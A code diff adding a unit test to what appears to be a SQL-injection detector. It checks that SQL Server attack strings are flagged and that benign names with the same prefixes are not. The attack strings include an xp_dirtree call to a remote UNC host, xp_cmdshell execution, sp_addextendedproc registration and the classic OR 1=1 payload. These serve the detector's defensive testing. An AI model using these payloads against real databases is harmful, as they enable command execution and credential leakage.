@@ -28,6 +28,15 @@ function hits(check: (v: string) => unknown, values: readonly string[]): string[
 }
 
 describe('SQL injection', () => {
+  it("reads an xp_/sp_ name as SQL Server's procedure only where a statement runs it", () => {
+    const attacks = ["1; EXEC master..xp_dirtree '\\\\198.51.100.7\\a'--", "1';exec sp_addextendedproc 'x','y'--", "x';xp_availablemedia--", '1; EXEC master.dbo.sp_who2--', "1; EXEC xp_cmdshell 'dir'"];
+    assert.deepEqual(misses((v) => detectSqli(v, false), attacks), []);
+    assert.deepEqual(['EXEC master..xp_dirtree x', '; sp_who2', 'exec sp_x', 'sp_counted_base', 'a/sp_x.h'].map((v) => sqlFingerprint(v, 0)), ['Kb..Pb', ';P', 'KP', 'b', 'b+b.b']);
+    // File and code names with the prefix (Boost's smart_ptr), a DBA's search for a procedure.
+    const benign = ['sp_counted_base.hpp', 'libs/smart_ptr/include/boost/smart_ptr/detail/sp_counted_base_aix.hpp', 'Files:\n libs/c/sp_resize.cpp\n libs/d/x.cpp', 'see sp_helpdb docs', 'rename via sp_rename', 'xp_points_total'];
+    assert.deepEqual(benign.map((v) => detectSqli(v, false)), benign.map(() => null));
+  });
+
   it('folds values to token fingerprints', () => {
     assert.equal(sqlFingerprint("x' OR 1=1 --", 0), 'b' + 's');
     assert.equal(sqlFingerprint("' OR 1=1 --", 1), '&nonc');
